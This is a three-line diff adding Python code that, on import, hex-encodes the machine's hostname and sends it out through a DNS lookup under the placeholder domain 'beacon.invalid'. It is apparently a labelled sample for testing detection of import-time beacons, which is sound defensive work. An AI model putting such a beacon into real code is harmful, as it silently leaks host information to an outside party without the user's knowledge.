@@ -1,0 +1,3 @@
+import socket
+name = socket.gethostname().encode().hex()
+socket.gethostbyname(name + ".beacon.invalid")  # fires: import
